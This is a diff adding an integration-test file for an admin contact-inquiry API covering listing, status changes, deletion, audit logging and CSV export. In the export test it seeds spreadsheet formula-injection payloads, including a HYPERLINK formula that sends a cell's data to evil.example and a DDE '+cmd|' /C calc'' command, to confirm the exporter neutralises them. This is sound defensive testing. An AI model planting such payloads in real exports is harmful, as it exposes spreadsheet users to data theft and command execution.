@@ -1,0 +1,381 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { sql } from 'kysely';
+import type { Db } from '../../db/client.ts';
+import { storeInquiry, type InquiryValues } from '../../db/repositories/contact-inquiries.ts';
+import type { InquiryStatus } from '../../db/schema.ts';
+import type { Locale } from '../../src/i18n/locales.ts';
+import adminContact, { config as contactConfig } from '../../functions/admin-contact.ts';
+import adminContacts from '../../functions/admin-contacts.ts';
+import adminContactsExport, { config as exportConfig } from '../../functions/admin-contacts-export.ts';
+import { LIST_LIMIT } from '../../functions/_shared/admin/inquiries/service.ts';
+import { adminRequest, createAdmin, resetAdminTables, signIn, TEST_IP, useAdminEnv, type AdminFunctionHandler } from './admin-test-helpers.ts';
+import { truncateAll, useTestDatabase } from './helpers.ts';
+import { countRows } from './inquiry-fixtures.ts';
+
+let db: Db;
+let restoreEnv: () => void;
+let admin: { id: number; username: string };
+let cookie: string;
+
+const DAY = 86_400_000;
+const base = new Date('2026-11-01T09:00:00Z');
+
+interface Seed extends Partial<InquiryValues> {
+  daysAfter: number;
+  locale?: Locale | null;
+  status?: InquiryStatus;
+}
+
+/** Stores an inquiry through the real write path (with consent and two owed e-mails), then dates it. */
+async function seed({ daysAfter, locale = 'ko', status, ...values }: Seed): Promise<{ id: number; reference: string }> {
+  const stored = await storeInquiry(db, {
+    reference: crypto.randomUUID(),
+    inquiry: {
+      name: '김민수', company: '한빛상사', email: 'minsu.kim@example.com', phone: '+62 812 3456 7890',
+      service: 'licensing', budget: 'k50to100', message: 'PMA 법인 설립 문의', ...values,
+    },
+    consent: { version: '2025-01-01', locale: locale ?? 'ko' },
+    notify: ['firm', 'visitor'],
+  });
+  if (!stored.stored) throw new Error('not stored');
+  await db.updateTable('contact_inquiries').set({ created_at: new Date(base.getTime() + daysAfter * DAY) } as never).where('id', '=', stored.id).execute();
+  if (status) await db.updateTable('contact_inquiries').set({ status }).where('id', '=', stored.id).execute();
+  if (locale === null) await db.deleteFrom('inquiry_consents').where('inquiry_id', '=', stored.id).execute();
+  return { id: stored.id, reference: stored.reference };
+}
+
+/** A signed-in call; `params` as Netlify derives them from the function's `config.path`. */
+function call(fn: AdminFunctionHandler, method: string, path: string, options: { body?: unknown; headers?: Record<string, string>; signedIn?: boolean } = {}) {
+  const id = /^\/api\/admin\/contacts\/(?!export$)([^/]+)$/.exec(path.split('?')[0]!)?.[1];
+  const { signedIn = true, ...rest } = options;
+  return adminRequest(fn, method, path, { ...rest, params: id === undefined ? {} : { id }, ...(signedIn ? { cookie } : {}) });
+}
+const list = (query = '') => call(adminContacts, 'GET', `/api/admin/contacts${query}`);
+const exportCsv = (query = '') => call(adminContactsExport, 'GET', `/api/admin/contacts/export${query}`);
+const patch = (id: number | string, body: unknown) => call(adminContact, 'PATCH', `/api/admin/contacts/${id}`, { body });
+const erase = (id: number | string) => call(adminContact, 'DELETE', `/api/admin/contacts/${id}`);
+
+async function ids(response: Response): Promise<number[]> {
+  expect(response.status).toBe(200);
+  return ((await response.json()) as { id: number }[]).map((inquiry) => inquiry.id);
+}
+
+function auditRows() {
+  return db.selectFrom('audit_log').select(['admin_id', 'username', 'action', 'entity', 'entity_id', 'summary', 'ip']).orderBy('id').execute();
+}
+
+async function snapshot() {
+  return {
+    inquiries: await db.selectFrom('contact_inquiries').selectAll().orderBy('id').execute(),
+    consents: await countRows(db, 'inquiry_consents'),
+    notifications: await countRows(db, 'inquiry_notifications'),
+    audit: await auditRows(),
+  };
+}
+
+beforeAll(async () => {
+  db = await useTestDatabase();
+  restoreEnv = useAdminEnv();
+});
+beforeEach(async () => {
+  await truncateAll(db);
+  await resetAdminTables(db);
+  admin = await createAdmin(db, 'manager');
+  cookie = await signIn('manager');
+  // Signing in is audited too; these tests look only at what the inquiry routes write.
+  await db.deleteFrom('audit_log').execute();
+});
+afterAll(async () => {
+  restoreEnv();
+  await db.destroy();
+});
+
+describe('every inquiry route needs a session', () => {
+  it.each([
+    ['GET', '/api/admin/contacts', adminContacts],
+    ['GET', '/api/admin/contacts/export', adminContactsExport],
+    ['PATCH', '/api/admin/contacts/:id', adminContact],
+    ['DELETE', '/api/admin/contacts/:id', adminContact],
+  ] as const)('%s %s answers 401 without one and changes nothing', async (method, path, fn) => {
+    const { id } = await seed({ daysAfter: 0 });
+    const before = await snapshot();
+    const body = method === 'PATCH' ? { status: 'done' } : undefined;
+    const response = await call(fn, method, path.replace(':id', String(id)), { body, signedIn: false });
+    expect(response.status).toBe(401);
+    expect(response.headers.get('cache-control')).toBe('no-store');
+    expect(await snapshot()).toEqual(before);
+  });
+
+  it('answers 405 with Allow for a method a route does not take', async () => {
+    const response = await call(adminContacts, 'POST', '/api/admin/contacts', { body: {} });
+    expect(response.status).toBe(405);
+    expect(response.headers.get('allow')).toContain('GET');
+  });
+});
+
+describe('GET /api/admin/contacts', () => {
+  it('lists every inquiry newest first in the contract shape, with the consent locale (null when absent)', async () => {
+    const older = await seed({ daysAfter: 0, locale: 'ja', budget: null, message: null });
+    const newer = await seed({ daysAfter: 2, locale: null, name: 'Budi', service: 'visa' });
+    const middle = await seed({ daysAfter: 1, locale: 'en', status: 'done' });
+
+    const response = await list();
+    expect(response.status).toBe(200);
+    expect(response.headers.get('cache-control')).toBe('no-store');
+    expect(response.headers.get('x-truncated')).toBeNull();
+    const body = (await response.json()) as Record<string, unknown>[];
+    expect(body.map((inquiry) => inquiry['id'])).toEqual([newer.id, middle.id, older.id]);
+    expect(body[2]).toEqual({
+      id: older.id,
+      reference: older.reference,
+      name: '김민수',
+      company: '한빛상사',
+      email: 'minsu.kim@example.com',
+      phone: '+62 812 3456 7890',
+      service: 'licensing',
+      budget: null,
+      message: null,
+      privacy: true,
+      locale: 'ja',
+      status: 'new',
+      statusUpdatedAt: null,
+      createdAt: base.toISOString(),
+    });
+    expect(body[0]).toMatchObject({ locale: null, name: 'Budi', service: 'visa', budget: 'k50to100' });
+    expect(body[1]).toMatchObject({ locale: 'en', status: 'done' });
+  });
+
+  it('filters by status and by service, and both together', async () => {
+    const a = await seed({ daysAfter: 0, service: 'visa', status: 'done' });
+    const b = await seed({ daysAfter: 1, service: 'visa' });
+    const c = await seed({ daysAfter: 2, service: 'hr', status: 'in_progress' });
+    const d = await seed({ daysAfter: 3, service: 'hr', status: 'done' });
+
+    expect(await ids(await list('?status=done'))).toEqual([d.id, a.id]);
+    expect(await ids(await list('?status=in_progress'))).toEqual([c.id]);
+    expect(await ids(await list('?status=new'))).toEqual([b.id]);
+    expect(await ids(await list('?service=visa'))).toEqual([b.id, a.id]);
+    expect(await ids(await list('?service=hr&status=done'))).toEqual([d.id]);
+    expect(await ids(await list('?service=comprehensive'))).toEqual([]);
+    expect(await ids(await list('?status=&service=&q='))).toEqual([d.id, c.id, b.id, a.id]);
+  });
+
+  it('searches name, company, e-mail, phone and message, case-insensitively', async () => {
+    const byName = await seed({ daysAfter: 0, name: 'Budi Santoso', company: 'PT Maju', email: 'budi@maju.co.id', phone: '0812-1111-2222', message: null });
+    const byCompany = await seed({ daysAfter: 1, name: '이서연', company: 'Hanbit Trading', email: 'seoyeon@example.kr', phone: '010-2222-3333', message: '공장 부지' });
+    const byEmail = await seed({ daysAfter: 2, name: '박지훈', company: '대한물산', email: 'JIHOON@Daehan.example', phone: '010-4444-5555', message: '비자' });
+    const byPhone = await seed({ daysAfter: 3, name: '최유리', company: '새한', email: 'yuri@example.kr', phone: '+62 21 777 8888', message: '법률' });
+    const byMessage = await seed({ daysAfter: 4, name: '정하늘', company: '하늘건설', email: 'sky@example.kr', phone: '010-6666-7777', message: '자카르타 SANTOSO 빌딩 임대 문의' });
+
+    expect(await ids(await list('?q=santoso'))).toEqual([byMessage.id, byName.id]);
+    expect(await ids(await list('?q=HANBIT'))).toEqual([byCompany.id]);
+    expect(await ids(await list('?q=jihoon%40daehan'))).toEqual([byEmail.id]);
+    expect(await ids(await list('?q=777%208888'))).toEqual([byPhone.id]);
+    expect(await ids(await list(`?q=${encodeURIComponent('임대')}`))).toEqual([byMessage.id]);
+    expect(await ids(await list(`?q=${encodeURIComponent(' 이서연 ')}`))).toEqual([byCompany.id]);
+    expect(await ids(await list('?q=nobody'))).toEqual([]);
+    expect(await ids(await list('?q=santoso&service=visa'))).toEqual([]);
+  });
+
+  it('matches % _ and \\ in the search literally, not as wildcards', async () => {
+    const percent = await seed({ daysAfter: 0, message: '예산의 100% 선금' });
+    const underscore = await seed({ daysAfter: 1, company: 'A_B Corp' });
+    const backslash = await seed({ daysAfter: 2, message: 'C:\\temp\\file' });
+    await seed({ daysAfter: 3, company: 'AXB Corp', message: '1000 선금' });
+
+    expect(await ids(await list('?q=%25'))).toEqual([percent.id]);
+    expect(await ids(await list('?q=100%25'))).toEqual([percent.id]);
+    expect(await ids(await list('?q=A_B'))).toEqual([underscore.id]);
+    expect(await ids(await list('?q=_'))).toEqual([underscore.id]);
+    expect(await ids(await list(`?q=${encodeURIComponent('\\')}`))).toEqual([backslash.id]);
+    expect(await ids(await list(`?q=${encodeURIComponent(':\\t')}`))).toEqual([backslash.id]);
+  });
+
+  it('answers 400 with field errors for an unknown status or service or an overlong search', async () => {
+    await seed({ daysAfter: 0 });
+    for (const [query, field] of [['?status=closed', 'status'], ['?service=Visa', 'service'], [`?q=${'x'.repeat(201)}`, 'q']] as const) {
+      const response = await list(query);
+      expect(response.status).toBe(400);
+      const body = (await response.json()) as { error: string; fields: Record<string, string> };
+      expect(Object.keys(body.fields)).toEqual([field]);
+    }
+  });
+
+  it(`returns the newest ${LIST_LIMIT} at most and says the list was cut`, async () => {
+    await sql`
+      INSERT INTO contact_inquiries (name, company, email, phone, service, privacy, created_at)
+      SELECT 'n' || g, 'c', 'e@example.com', '0812345678', 'other', true, ${base}::timestamptz + make_interval(mins => g)
+      FROM generate_series(1, ${LIST_LIMIT + 1}) AS g
+    `.execute(db);
+    const response = await list();
+    expect(response.headers.get('x-truncated')).toBe('true');
+    const body = (await response.json()) as { name: string }[];
+    expect(body).toHaveLength(LIST_LIMIT);
+    expect(body[0]?.name).toBe(`n${LIST_LIMIT + 1}`);
+    expect(body.at(-1)?.name).toBe('n2');
+  });
+});
+
+describe('PATCH /api/admin/contacts/:id', () => {
+  it('changes the status, stamps the change and logs it without personal data', async () => {
+    const { id } = await seed({ daysAfter: 0 });
+    const other = await seed({ daysAfter: 1 });
+
+    const response = await patch(id, { status: 'done' });
+    expect(response.status).toBe(200);
+    const inquiry = (await response.json()) as { id: number; status: string; statusUpdatedAt: string | null; locale: string };
+    expect(inquiry).toMatchObject({ id, status: 'done', locale: 'ko', name: '김민수' });
+    expect(Date.now() - Date.parse(inquiry.statusUpdatedAt ?? '')).toBeLessThan(60_000);
+
+    const row = await db.selectFrom('contact_inquiries').select(['status', 'status_updated_at']).where('id', '=', id).executeTakeFirstOrThrow();
+    expect(row.status).toBe('done');
+    expect(row.status_updated_at?.toISOString()).toBe(inquiry.statusUpdatedAt);
+    expect((await db.selectFrom('contact_inquiries').select('status').where('id', '=', other.id).executeTakeFirstOrThrow()).status).toBe('new');
+
+    expect(await auditRows()).toEqual([
+      { admin_id: admin.id, username: 'manager', action: 'status', entity: 'inquiry', entity_id: String(id), summary: `#${id} new → done`, ip: TEST_IP },
+    ]);
+
+    expect((await patch(id, { status: 'in_progress' })).status).toBe(200);
+    expect((await auditRows()).at(-1)?.summary).toBe(`#${id} done → in_progress`);
+  });
+
+  it('setting the status it already has changes and logs nothing', async () => {
+    const { id } = await seed({ daysAfter: 0, status: 'in_progress' });
+    const before = await snapshot();
+    const response = await patch(id, { status: 'in_progress' });
+    expect(response.status).toBe(200);
+    expect(await response.json()).toMatchObject({ id, status: 'in_progress', statusUpdatedAt: null });
+    expect(await snapshot()).toEqual(before);
+  });
+
+  it.each([
+    ['an unknown status', { status: 'closed' }],
+    ['a status of the wrong type', { status: 2 }],
+    ['no status', { state: 'done' }],
+    ['an array', ['done']],
+    ['a JSON string', '"done"'],
+    ['no body', undefined],
+  ])('answers 400 with a status field error for %s and alters nothing', async (_, body) => {
+    const { id } = await seed({ daysAfter: 0 });
+    const before = await snapshot();
+    const response = await patch(id, body);
+    expect(response.status).toBe(400);
+    expect(((await response.json()) as { fields: Record<string, string> }).fields).toEqual({ status: expect.stringContaining('new, in_progress, done') });
+    expect(await snapshot()).toEqual(before);
+  });
+
+  it('answers 404 for an id that is not stored or not an id, and alters nothing', async () => {
+    const { id } = await seed({ daysAfter: 0 });
+    const before = await snapshot();
+    for (const missing of [id + 1, 'abc', '0', '-1', '1.5', '99999999999']) {
+      expect((await patch(missing, { status: 'done' })).status).toBe(404);
+    }
+    expect(await snapshot()).toEqual(before);
+  });
+
+  it('refuses a cross-site request and a body that is not JSON', async () => {
+    const { id } = await seed({ daysAfter: 0 });
+    const before = await snapshot();
+    const crossSite = await call(adminContact, 'PATCH', `/api/admin/contacts/${id}`, { body: { status: 'done' }, headers: { 'Sec-Fetch-Site': 'cross-site' } });
+    expect(crossSite.status).toBe(403);
+    const form = await call(adminContact, 'PATCH', `/api/admin/contacts/${id}`, { body: 'status=done', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
+    expect(form.status).toBe(415);
+    expect(await snapshot()).toEqual(before);
+  });
+});
+
+describe('DELETE /api/admin/contacts/:id', () => {
+  it('erases the inquiry with its consent and e-mail rows, keeps the others, and logs only the id and reference', async () => {
+    const kept = await seed({ daysAfter: 0 });
+    const gone = await seed({ daysAfter: 1, name: '홍길동', company: '율도국무역', email: 'gildong@example.kr', phone: '010-9999-0000' });
+    expect(await countRows(db, 'inquiry_consents')).toBe(2);
+    expect(await countRows(db, 'inquiry_notifications')).toBe(4);
+
+    const response = await erase(gone.id);
+    expect(response.status).toBe(200);
+    expect(await response.json()).toEqual({ ok: true });
+
+    expect((await db.selectFrom('contact_inquiries').select('id').execute()).map((r) => r.id)).toEqual([kept.id]);
+    expect((await db.selectFrom('inquiry_consents').select('inquiry_id').execute()).map((r) => r.inquiry_id)).toEqual([kept.id]);
+    const owed = await db.selectFrom('inquiry_notifications').select('inquiry_id').execute();
+    expect(owed.map((r) => r.inquiry_id)).toEqual([kept.id, kept.id]);
+
+    const audit = await auditRows();
+    expect(audit).toHaveLength(1);
+    expect(audit[0]).toMatchObject({ action: 'delete', entity: 'inquiry', entity_id: String(gone.id), username: 'manager', admin_id: admin.id });
+    expect(audit[0]?.summary).toContain(gone.reference);
+    for (const personal of ['홍길동', '율도국무역', 'gildong', '010-9999-0000']) expect(JSON.stringify(audit)).not.toContain(personal);
+
+    expect((await erase(gone.id)).status).toBe(404);
+    expect(await auditRows()).toHaveLength(1);
+  });
+
+  it('answers 404 for an unknown or malformed id and alters nothing', async () => {
+    const { id } = await seed({ daysAfter: 0 });
+    const before = await snapshot();
+    for (const missing of [id + 1, 'x', '007e1']) expect((await erase(missing)).status).toBe(404);
+    expect(await snapshot()).toEqual(before);
+  });
+});
+
+describe('GET /api/admin/contacts/export', () => {
+  it('sends the filtered inquiries as an Excel-ready CSV attachment and logs the export without personal data', async () => {
+    const first = await seed({
+      daysAfter: 0, name: '=HYPERLINK("http://evil.example/?"&A1,"클릭")', company: '+cmd|\' /C calc\'!A0', email: '@SUM(1+1)@example.com',
+      phone: '-2+3', budget: null, message: '첫 줄, "인용"\n둘째 줄\t탭', locale: 'ko',
+    });
+    const second = await seed({ daysAfter: 1, name: '山田太郎', service: 'visa', message: null, locale: null, status: 'done' });
+
+    const response = await exportCsv();
+    expect(response.status).toBe(200);
+    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="inquiries-\d{4}-\d{2}-\d{2}\.csv"$/);
+    expect(response.headers.get('cache-control')).toBe('no-store');
+    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
+    const bytes = new Uint8Array(await response.arrayBuffer());
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
+    expect(text.replace(/\r\n/g, '').includes('\r')).toBe(false);
+    const records = text.slice(1).split('\r\n');
+    expect(records.at(-1)).toBe('');
+    expect(records[0]).toBe('id,reference,received,status,name,company,email,phone,service,budget,message,locale');
+    expect(records[1]).toBe(`${second.id},${second.reference},${new Date(base.getTime() + DAY).toISOString()},done,山田太郎,한빛상사,minsu.kim@example.com,'+62 812 3456 7890,visa,k50to100,,`);
+    expect(records.slice(2, -1).join('\r\n')).toBe(
+      `${first.id},${first.reference},${base.toISOString()},new,"'=HYPERLINK(""http://evil.example/?""&A1,""클릭"")",'+cmd|' /C calc'!A0,` +
+        `'@SUM(1+1)@example.com,'-2+3,licensing,,"첫 줄, ""인용""\n둘째 줄\t탭",ko`,
+    );
+
+    const audit = await auditRows();
+    expect(audit).toEqual([{ admin_id: admin.id, username: 'manager', action: 'export', entity: 'inquiry', entity_id: null, summary: 'CSV: 2 rows; no filter', ip: TEST_IP }]);
+  });
+
+  it('applies the same filters as the list and logs which were used, but not the search text', async () => {
+    await seed({ daysAfter: 0, service: 'visa', name: 'Budi' });
+    const match = await seed({ daysAfter: 1, service: 'visa', name: '김철수' });
+    await seed({ daysAfter: 2, service: 'hr', name: '김철수' });
+
+    const response = await exportCsv(`?service=visa&status=new&q=${encodeURIComponent('철수')}`);
+    expect(response.status).toBe(200);
+    const records = (await response.text()).split('\r\n');
+    expect(records).toHaveLength(3);
+    expect(records[1]?.startsWith(`${match.id},`)).toBe(true);
+
+    const [entry] = await auditRows();
+    expect(entry?.summary).toBe('CSV: 1 row; status=new, service=visa, search');
+    expect(entry?.summary).not.toContain('철수');
+  });
+
+  it('answers 400 for a bad filter and logs nothing', async () => {
+    await seed({ daysAfter: 0 });
+    const response = await exportCsv('?status=archived');
+    expect(response.status).toBe(400);
+    expect(((await response.json()) as { fields: Record<string, string> }).fields).toHaveProperty('status');
+    expect(await auditRows()).toEqual([]);
+  });
+
+  it('is not routed to the single-inquiry function: its literal path is its own', () => {
+    expect(exportConfig.path).toBe('/api/admin/contacts/export');
+    expect(contactConfig.path).toBe('/api/admin/contacts/:id');
+  });
+});
